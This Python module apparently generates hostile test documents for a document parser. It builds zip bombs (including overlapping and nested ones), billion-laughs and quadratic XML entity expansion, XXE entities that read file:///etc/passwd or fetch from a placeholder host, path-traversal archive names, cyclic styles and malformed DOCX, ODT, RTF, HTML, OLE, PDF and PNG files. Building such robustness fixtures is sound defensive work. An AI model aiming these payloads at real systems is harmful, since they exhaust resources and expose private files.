"""Documents made to exhaust, to confuse or to deceive a reader, by name: each is built when it is asked for.

A name begins with the extension of the file. What is large is made of deflated pieces that are repeated as they are,
so that gigabytes cost milliseconds here.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence

Shape = Callable[[], bytes]
Piece = tuple[bytes, int]  # bytes, and how often they stand there

M = 1_000_000
W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
MC = b'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
BOX = b'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"'
TYPES = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PACKAGE = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
ODF = b" ".join(
    b'xmlns:%s="urn:oasis:names:tc:opendocument:xmlns:%s:1.0"' % (name, name)
    for name in (b"office", b"text", b"table", b"style", b"manifest")
)
P = "<w:p><w:r><w:t>各位领导、同志们，现在发言。</w:t></w:r></w:p>".encode()
SAID = "各位领导、同志们，现在发言。"
FAR = b"http://127.0.0.1:9/x"  # nobody listens there; a connection would be seen all the same
NEAR = b"file:///etc/passwd"


TOLD = (b"told.txt", SAID.encode(), 0, len(SAID.encode()))  # a member beside those that harm


# ── zips by hand ──────────────────────────────────────────────────────────────────────────────────


def deflated(*pieces: Piece) -> bytes:
    """Deflate pieces that repeat, each once: behind a full flush nothing refers to what was before."""
    made = []
    for data, times in pieces:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        made.append((packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH)) * times)
    return b"".join(made) + b"\x03\x00"


def facts(method: int, checksum: int, packed: int, size: int) -> bytes:
    """The fields that an entry and its local header share (APPNOTE 4.3.7, 4.3.12)."""
    return struct.pack("<HHHHHIII", 20, 0, method, 0, 0, checksum, packed, size)


def raw_zip(*members: tuple[bytes, bytes, int, int]) -> bytes:
    """Zip members given by name, packed bytes, method and the size they are said to have; only those of stored ones have a true checksum."""
    body = directory = b""
    for name, data, method, size in members:
        shared = facts(method, 0 if method else zlib.crc32(data), len(data), size)
        entry = b"PK\x01\x02" + struct.pack("<H", 20) + shared
        directory += entry + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, len(body)) + name
        body += b"PK\x03\x04" + shared + struct.pack("<HH", len(name), 0) + name + data
    return body + directory + end(len(members), len(directory), len(body))


def end(entries: int, size: int, at: int) -> bytes:
    return b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, entries % 65536, entries % 65536, size, at, 0)


def zipped(*members: tuple[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return packed.getvalue()


def bomb(name: bytes, *pieces: Piece, others: Sequence[bytes] = ()) -> bytes:
    """Zip one member of pieces that repeat, beside others that are empty."""
    size = sum(len(data) * times for data, times in pieces)
    return raw_zip(*((other, b"", 0, 0) for other in others), (name, deflated(*pieces), 8, size), TOLD)


def quoted(files: int) -> bytes:
    """Let each file's data hold the local header of the next one, quoted, and all end in one kernel (Fifield 2019)."""
    content, data = bytes(M), deflated((bytes(M), 1))
    headers: list[
        tuple[bytes, bytes]
    ] = []  # from the innermost outwards: what an entry repeats of it, and itself
    for number in range(files):
        shared = facts(8, zlib.crc32(content), len(data), len(content))
        local = b"PK\x03\x04" + shared + struct.pack("<HH", 5, 0) + b"%05d" % number
        headers.append((shared, local))
        data, content = (
            struct.pack("<BHH", 0, len(local), len(local) ^ 0xFFFF) + local + data,
            local + content,
        )
    body = data[5:]  # the outermost header need not be quoted
    directory, at = b"", 0
    for number, (shared, local) in reversed(list(enumerate(headers))):
        entry = b"PK\x01\x02" + struct.pack("<H", 20) + shared
        directory += entry + struct.pack("<HHHHHII", 5, 0, 0, 0, 0, 0, at) + b"%05d" % number
        at += len(local) + 5
    return body + directory + end(files, len(directory), len(body))


def nested_zips(levels: int, wide: int) -> bytes:
    packed = bomb(b"a.txt", (bytes(M), 10))
    for level in range(levels):
        packed = zipped(*((f"{level}-{one}.zip", packed) for one in range(wide)), ("told.txt", SAID.encode()))
    return packed


def many_entries(count: int) -> bytes:
    entry = (
        b"PK\x01\x02"
        + struct.pack("<H", 20)
        + facts(0, 0, 0, 0)
        + struct.pack("<HHHHHII", 1, 0, 0, 0, 0, 0, 0)
    )
    body = b"PK\x03\x04" + facts(0, 0, 0, 0) + struct.pack("<HH", 1, 0) + b"a"
    return body + (entry + b"a") * count + end(count, (len(entry) + 1) * count, len(body))


# ── packages ──────────────────────────────────────────────────────────────────────────────────────


def docx(body: bytes, head: bytes = b"", **parts: bytes) -> bytes:
    """A document of a body, and of parts by their kinds ("styles"), which its relationships name."""
    namespaces = b" ".join((W, R, MC, BOX))
    page = head + b"<w:document " + namespaces + b"><w:body>" + body + b"</w:body></w:document>"
    related = b"".join(
        b'<Relationship Id="%s" Type="%s%s" Target="%s.xml"/>' % (kind, TYPES, kind, kind)
        for kind in (name.encode() for name in parts)
    )
    written = ((f"word/{kind}.xml", b"<w:%s %s>%s</w:%s>" % (kind.encode(), W, inside, kind.encode())) for kind, inside in parts.items())  # fmt: skip
    return package(page, related, *written)


def package(page: bytes, related: bytes = b"", *others: tuple[str, bytes]) -> bytes:
    return zipped(
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", page),
        ("word/_rels/document.xml.rels", PACKAGE + related + b"</Relationships>"),
        *others,
    )


def odt(text: bytes, styles: bytes = b"", head: bytes = b"") -> bytes:
    page = (
        head + b"<office:document-content " + ODF + b"><office:automatic-styles>" + styles
        + b"</office:automatic-styles><office:body><office:text>" + text
        + b"</office:text></office:body></office:document-content>"
    )  # fmt: skip
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        archive.writestr("content.xml", page)
    return packed.getvalue()


def odt_p(text: str = SAID) -> bytes:
    return b"<text:p>" + text.encode() + b"</text:p>"


def doctype(inside: bytes, system: bytes = b"") -> bytes:
    return b"<!DOCTYPE x " + system + b"[" + inside + b"]>"


def laughs(levels: int) -> bytes:
    grown = b"".join(b'<!ENTITY e%d "%s">' % (level + 1, b"&e%d;" % level * 10) for level in range(levels))
    return doctype(b'<!ENTITY e0 "lol">' + grown)


def text_run(text: bytes) -> bytes:
    return b"<w:p><w:r><w:t>" + text + b"</w:t></w:r></w:p>"


def style(name: bytes, elder: bytes) -> bytes:
    return b'<w:style w:type="paragraph" w:styleId="%s"><w:basedOn w:val="%s"/></w:style>' % (name, elder)


def styled(name: bytes) -> bytes:
    return b'<w:p><w:pPr><w:pStyle w:val="%s"/></w:pPr><w:r><w:t>%s</w:t></w:r></w:p>' % (name, SAID.encode())


def numbered(level: int = 0) -> bytes:
    return (
        b'<w:p><w:pPr><w:numPr><w:ilvl w:val="%d"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>%s</w:t></w:r></w:p>'
        % (level, SAID.encode())
    )


def ole(fat: Sequence[int], entries: bytes = b"", **at: int) -> bytes:
    """A compound file of a table in sector 0 and a directory in sector 1; `at` sets 32-bit fields of its header."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(24, b"\0") + struct.pack("<HHHH", 62, 3, 0xFFFE, 9)
    filled = bytearray(header.ljust(48, b"\0") + struct.pack("<I", 1)).ljust(76, b"\0")
    filled += struct.pack("<110I", 0, *[0xFFFFFFFF] * 109)[:436]
    for place, value in at.items():
        struct.pack_into("<I", filled, int(place[1:]), value)
    table = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
    return bytes(filled) + table + entries.ljust(512, b"\0") + bytes(4096)


def ole_entry(name: str, child: int, right: int = 0xFFFFFFFF) -> bytes:
    wide = name.encode("utf-16-le")
    links = struct.pack("<III", 0xFFFFFFFF, right, child)
    return wide.ljust(64, b"\0") + struct.pack("<HBB", len(wide) + 2, 2, 1) + links + bytes(36) + struct.pack("<IQ", 2, 2**40)  # fmt: skip


def pdf(*objects: bytes) -> bytes:
    body = b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, o) for n, o in enumerate(objects, 1))
    return body + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def flated(times: int) -> bytes:
    data = zlib.compress(zlib.compress(bytes(times * M), 9), 9)
    head = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(data)
    return head + data + b"\nendstream"


def random_bytes(count: int) -> bytes:
    return random.Random(7).randbytes(count)  # the same on every run


WHOLE = docx(P * 20)
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
RTF = b"{\\rtf1\\ansicpg936 " + SAID.encode("gbk") + b"\\par "
MHT = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n"
PAGE = b"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>" + SAID.encode() + b"</p>\r\n"

ARCHIVES: Mapping[str, Shape] = {
    "zip-bomb-flat-4GB": lambda: bomb(b"a.txt", (bytes(M), 4_000)),
    "zip-bomb-of-bombs": lambda: nested_zips(3, 12),
    "zip-bomb-nested-20": lambda: nested_zips(20, 1),
    "zip-bomb-overlapping": lambda: quoted(250),
    "zip-bomb-bzip2": lambda: raw_zip((b"a.txt", b"BZh91AY&SY" + bytes(40), 12, 10**9), TOLD),
    "zip-lies-small": lambda: raw_zip((b"a.txt", deflated((bytes(M), 300)), 8, 100), TOLD),
    "zip-lies-large": lambda: raw_zip((b"a.txt", b"x" * 10, 0, 2**31), TOLD),
    "zip-entries-200k": lambda: many_entries(200_000),
    "zip-entries-claimed": lambda: zipped(("a.txt", SAID.encode()))[:-14] + struct.pack("<HHIIH", 65535, 65535, 2**32 - 1, 2**32 - 1, 0),
    "zip-names": lambda: zipped(*((name, SAID.encode()) for name in ("../../x.txt", "/etc/cron.d/x.txt", "C:\\x.txt", "a\x1b[2J.txt", "\u202etxt.exe", "长" * 9_000 + ".txt", "CON.txt"))),
    "zip-prepended": lambda: random_bytes(5_000) + zipped(("a.txt", SAID.encode())),
    "zip-appended": lambda: zipped(("a.txt", SAID.encode())) + bytes(30_000),
    "zip-truncated": lambda: zipped(*((f"{n}.txt", random_bytes(3_000)) for n in range(20)))[:30_000],
    "zip-of-documents": lambda: zipped(*((f"{n}.docx", WHOLE) for n in range(90))),
}  # fmt: skip
WORDS: Mapping[str, Shape] = {
    "docx-bomb-430MB": lambda: bomb(b"word/document.xml", (b"<w:document " + W + b"><w:body>", 1), (P * 10_000, 430), others=(b"[Content_Types].xml",)),
    "docx-bomb-one-node-900MB": lambda: bomb(b"word/document.xml", (b"<w:document " + W + b"><w:body><w:p><w:r><w:t>", 1), (b"x" * M, 900), others=(b"[Content_Types].xml",)),
    "docx-laughs": lambda: docx(text_run(b"&e9;"), laughs(9)),
    "docx-quadratic": lambda: docx(text_run(b"&a;" * 50_000), doctype(b'<!ENTITY a "' + b"a" * 50_000 + b'">')),
    "docx-entity-of-a-file": lambda: docx(text_run(b"&a;"), doctype(b'<!ENTITY a SYSTEM "' + NEAR + b'">')),
    "docx-entity-from-afar": lambda: docx(text_run(b"&a;"), doctype(b'<!ENTITY % a SYSTEM "' + FAR + b'"> %a;')),
    "docx-dtd-from-afar": lambda: docx(P, doctype(b"", b'SYSTEM "' + FAR + b'"')),
    "docx-relations-outside": lambda: package(
        b"<w:document " + W + b" " + R + b"><w:body>" + P + b'<w:altChunk r:id="c"/></w:body></w:document>',
        b"".join(b'<Relationship Id="%s" Type="%s%s" Target="%s"/>' % (kind, TYPES, kind, target) for kind, target in (
            (b"styles", b"../../../../etc/passwd"), (b"numbering", NEAR), (b"footnotes", b"/etc/passwd"), (b"c", b"..\\..\\x"))),
    ),
    "docx-relations-from-afar": lambda: package(
        b"<w:document " + W + b"><w:body>" + P + b"</w:body></w:document>",
        b"".join(b'<Relationship Id="r%d" Type="%s%s" TargetMode="External" Target="%s"/>' % (n, TYPES, kind, FAR) for n, kind in enumerate((b"attachedTemplate", b"image", b"styles", b"frame")) for _ in range(1_000)),
    ),
    "docx-main-part-is-its-own-relations": lambda: zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b""), ("_rels/.rels", PACKAGE + b'<Relationship Type="%sofficeDocument" Target="_rels/.rels"/></Relationships>' % TYPES)),
    "docx-tables-3000": lambda: docx(b"<w:tbl><w:tr><w:tc>" * 3_000 + P + b"</w:tc></w:tr></w:tbl>" * 3_000),
    "docx-tables-60": lambda: docx(b"<w:tbl><w:tr><w:tc>" * 60 + P + b"</w:tc></w:tr></w:tbl>" * 60),
    "docx-depth-1M": lambda: docx(b"<w:ins>" * M + P + b"</w:ins>" * M),
    "docx-paragraphs-500k-empty": lambda: docx(b"<w:p/>" * 500_000 + P),
    "docx-paragraphs-300k-full": lambda: docx(P + text_run(b"x") * 300_000),
    "docx-runs-300k": lambda: docx(b"<w:p>" + b"<w:r><w:t>x</w:t></w:r>" * 300_000 + b"</w:p>" + P),
    "docx-styles-100k-in-a-ring": lambda: docx(styled(b"s0") * 100, styles=b"".join(style(b"s%d" % n, b"s%d" % ((n + 1) % 100_000)) for n in range(100_000))),
    "docx-style-of-itself": lambda: docx(styled(b"s"), styles=style(b"s", b"s")),
    "docx-numbers-in-a-ring": lambda: docx(numbered() * 50, numbering=b'<w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="a"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>', styles=b'<w:style w:type="numbering" w:styleId="a"><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'),
    "docx-numbers-huge": lambda: docx(numbered(2**31) + numbered() * 50, numbering=b'<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="2147483647"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="' + b"%1" * 50_000 + b'"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'),
    "docx-numbers-100k": lambda: docx(numbered(), numbering=b"".join(b'<w:abstractNum w:abstractNumId="%d"><w:lvl w:ilvl="0"/></w:abstractNum><w:num w:numId="%d"><w:abstractNumId w:val="%d"/></w:num>' % (n, n, n) for n in range(100_000))),
    "docx-fields-100k": lambda: docx(b"<w:p>" + b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 100_000 + b"</w:p>" + P),
    "docx-boxes-20": lambda: docx(b"<w:p><w:r><mc:AlternateContent><mc:Choice><w:drawing><wps:txbx><w:txbxContent>" * 20 + P + b"</w:txbxContent></wps:txbx></w:drawing></mc:Choice></mc:AlternateContent></w:r></w:p>" * 20),
    "docx-notes-of-notes": lambda: docx(b'<w:p><w:r><w:t>x</w:t><w:footnoteReference w:id="2"/></w:r></w:p>' * 100 + P, footnotes=b'<w:footnote w:id="2"><w:p><w:r><w:t>x</w:t><w:footnoteReference w:id="2"/></w:r></w:p></w:footnote>' * 1_000),
    "docx-attributes-100k": lambda: docx(b"<w:p " + b" ".join(b'a%d="x"' % n for n in range(100_000)) + b"/>" + P),
    "docx-attribute-9MB": lambda: docx(b'<w:p w:x="' + b"x" * 9 * M + b'"/>' + P),
    "docx-namespaces-100k": lambda: docx(b"".join(b'<w:p xmlns:n%d="u"/>' % n for n in range(100_000)) + P),
    "docx-comments-1M": lambda: docx(b"<!--x-->" * M + P),
    "docx-truncated": lambda: WHOLE[:-60],
    "docx-nul-filled": lambda: WHOLE[:400] + bytes(len(WHOLE)),
    "docx-random-tail": lambda: WHOLE + random_bytes(40_000),
    "docx-parts-900": lambda: package(b"<w:document " + W + b"><w:body>" + P + b"</w:body></w:document>", b"", *((f"word/media/{n}.png", b"x") for n in range(900))),
}  # fmt: skip
TEXTS: Mapping[str, Shape] = {
    "odt-tables-3000": lambda: odt(b"<table:table><table:table-row><table:table-cell>" * 3_000 + odt_p() + b"</table:table-cell></table:table-row></table:table>" * 3_000),
    "odt-tables-60": lambda: odt(b"<table:table><table:table-row><table:table-cell>" * 60 + odt_p() + b"</table:table-cell></table:table-row></table:table>" * 60),
    "odt-lists-70": lambda: odt(b"<text:list><text:list-item>" * 70 + odt_p() + b"</text:list-item></text:list>" * 70),
    "odt-spaces-2G": lambda: odt(b'<text:p>x<text:s text:c="2000000000"/>x</text:p>' * 100 + odt_p()),
    "odt-cells-repeated-2G": lambda: odt(b'<table:table><table:table-column table:number-columns-repeated="2000000000"/><table:table-row table:number-rows-repeated="2000000000"><table:table-cell table:number-columns-repeated="2000000000">' + odt_p() + b"</table:table-cell></table:table-row></table:table>"),
    "odt-styles-in-a-ring": lambda: odt(b'<text:p text:style-name="s0">x</text:p>' * 50 + odt_p(), b"".join(b'<style:style style:name="s%d" style:family="paragraph" style:parent-style-name="s%d"/>' % (n, (n + 1) % 20_000) for n in range(20_000))),
    "odt-paragraphs-300k": lambda: odt(odt_p() + b"<text:p>x</text:p>" * 300_000),
    "odt-spans-200": lambda: odt(b"<text:p>" + b"<text:span>x" * 200 + b"</text:span>" * 200 + b"</text:p>" + odt_p()),
    "odt-laughs": lambda: odt(b"<text:p>&e9;</text:p>", head=laughs(9)),
    "odt-entity-of-a-file": lambda: odt(b"<text:p>&a;</text:p>", head=doctype(b'<!ENTITY a SYSTEM "' + NEAR + b'">')),
    "odt-truncated": lambda: odt(odt_p() * 2_000)[:-80],
    "rtf-groups-300k": lambda: b"{\\rtf1 " + b"{" * 300_000 + b"x" + b"}" * 300_000 + SAID.encode("gbk") + b"}",
    "rtf-bin-2G": lambda: RTF + b"{\\pict\\bin2147483647 x}\\par}",
    "rtf-paragraphs-500k-empty": lambda: RTF + b"\\par" * 500_000 + b" x}",
    "rtf-hex-1M": lambda: RTF + b"\\'b7\\'a2" * 500_000 + b"}",
    "rtf-fonts-50k": lambda: b"{\\rtf1\\ansicpg936{\\fonttbl" + b"".join(b"{\\f%d\\fcharset134 x;}" % n for n in range(50_000)) + b"}\\f7 " + SAID.encode("gbk") + b"\\par}",
    "rtf-styles-in-a-ring": lambda: b"{\\rtf1\\ansicpg936{\\stylesheet" + b"".join(b"{\\s%d\\sbasedon%d x;}" % (n, (n + 1) % 20_000) for n in range(20_000)) + b"}" + b"\\pard\\s1 x\\par" * 100 + SAID.encode("gbk") + b"\\par}",
    "rtf-tables-3000": lambda: b"{\\rtf1\\ansicpg936 " + b"".join(b"\\pard\\intbl\\itap%d x\\nestcell{\\*\\nesttableprops\\nestrow}" % n for n in range(3_000)) + b"\\cell\\row\\pard " + SAID.encode("gbk") + b"\\par}",
    "rtf-numbers-overflow": lambda: RTF + b"\\fs99999999999999999999\\uc1000000000\\u-99999999999 x\\li99999999999999999999 y\\par}",
    "rtf-picture-20MB": lambda: b"{\\rtf1\\ansicpg936{\\pict\\pngblip " + b"ff00" * 5 * M + b"}" + SAID.encode("gbk") + b"\\par}",
    "rtf-words-300k": lambda: RTF + b"\\b\\i0\\fs24 x" * 300_000 + b"}",
    "rtf-truncated": lambda: b"{\\rtf1\\ansicpg936{\\fonttbl{\\f0 x;}}\\pard " + SAID.encode("gbk") * 50 + b"\\par {\\b \\'b",
}  # fmt: skip
PAGES: Mapping[str, Shape] = {
    "html-divs-500k": lambda: b"<html>" + b"<div>" * 500_000 + SAID.encode(),
    "html-tables-3000": lambda: b"<html>" + b"<table><tr><td>" * 3_000 + SAID.encode(),
    "html-paragraphs-500k": lambda: b"<html><p>" + SAID.encode() + b"<p>x" * 500_000,
    "html-numbers-of-word": lambda: b"<html><p>" + b"<span style='mso-list:Ignore'>1." * 50_000 + b"<p>" + SAID.encode(),
    "html-fillers-of-word": lambda: b"<html><p>" + b"<span style='font:7.0pt \"Times New Roman\"'>" * 200 + SAID.encode() * 20_000,
    "html-style-5MB": lambda: b"<html><p style='" + b"color:red;" * 500_000 + b"'>" + SAID.encode(),
    "html-rules-100k": lambda: b"<html><style>" + b"p.a{font-size:9pt}" * 100_000 + b"</style><p class=a>" + SAID.encode(),
    "html-classes": lambda: b"<html><style>p.a{" + b"font-size:x;" * 200 + b"}</style><p>" + SAID.encode() + b"<p class='a a a a'>x" * 80_000,
    "html-entities": lambda: b"<html><p>" + b"&#x10FFFF;&#xD800;&#0;&lt;" * 100_000 + SAID.encode(),
    "html-fetches": lambda: b"<html><base href='" + FAR + b"'><link rel=stylesheet href='" + FAR + b"'><iframe src='" + NEAR + b"'></iframe><img src='" + FAR + b"'><p>" + SAID.encode(),
    "html-entity-of-a-file": lambda: b"<!DOCTYPE html [<!ENTITY a SYSTEM '" + NEAR + b"'>]><html><p>&a;" + SAID.encode(),
    "html-cells": lambda: b"<html><table>" + b"<tr>" + b"<td colspan=1000000>x" * 100_000 + b"</table><p>" + SAID.encode(),
    "html-unclosed": lambda: b"<html><p>" + SAID.encode() + b"<!--" + b"<a " * 100_000,
    "html-lists-50k": lambda: b"<html>" + b"<ol type=I start=2147483647><li>x" * 50_000 + b"<p>" + SAID.encode(),
    "mht-nested-5000": lambda: MHT + PAGE + b"--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" * 5_000,
    "mht-parts-15k": lambda: MHT + PAGE + b"--b\r\nContent-Type: image/png\r\n\r\nx\r\n" * 15_000 + b"--b--",
    "mht-headers-100k": lambda: b"MIME-Version: 1.0\r\n" + MHT[:-2] + b"X: y\r\n" * 100_000 + b"\r\n" + PAGE + b"--b--",
    "mht-truncated": lambda: MHT + PAGE[:-4],
    "txt-lines-2M": lambda: SAID.encode() + b"\nx" * 2 * M,
    "txt-one-line-30MB": lambda: SAID.encode() + "发言".encode() * 5 * M,
    "txt-half-a-character": lambda: SAID.encode("utf-16-le") * 3 + b"\x53",
    "txt-nul-between": lambda: SAID.encode() * 20 + bytes(3_000) + SAID.encode() * 20,
    "txt-combining-marks": lambda: SAID.encode() + "\u0301".encode() * M,
    "txt-controls": lambda: ("\x1b]52;c;eA==\x07\u202e" + SAID + "\x9b2J").encode() * 500,
}  # fmt: skip
OTHERS: Mapping[str, Shape] = {
    "doc-table-in-a-ring": lambda: ole([0xFFFFFFFD, 1] * 64, ole_entry("Root Entry", 1) + ole_entry("WordDocument", 1, right=1)),
    "doc-table-lists-itself": lambda: ole([0xFFFFFFFD, 0xFFFFFFFE], ole_entry("Root Entry", 1), _68=0, _72=2**31),
    "doc-truncated": lambda: ole([0xFFFFFFFD, 0xFFFFFFFE, *range(3, 120)], ole_entry("Root Entry", 1) + ole_entry("WordDocument", 0xFFFFFFFF))[:3_000],
    "pdf-flate-1GB": lambda: pdf(CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>", flated(100)),
    "pdf-pages-in-a-ring": lambda: pdf(CATALOG, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2000000 >>"),
    "png-60000x60000": lambda: b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBB", 13, b"IHDR", 60_000, 60_000, 8, 2, 0, 0, 0),
}  # fmt: skip

SHAPES: Mapping[str, Shape] = {**ARCHIVES, **WORDS, **TEXTS, **PAGES, **OTHERS}
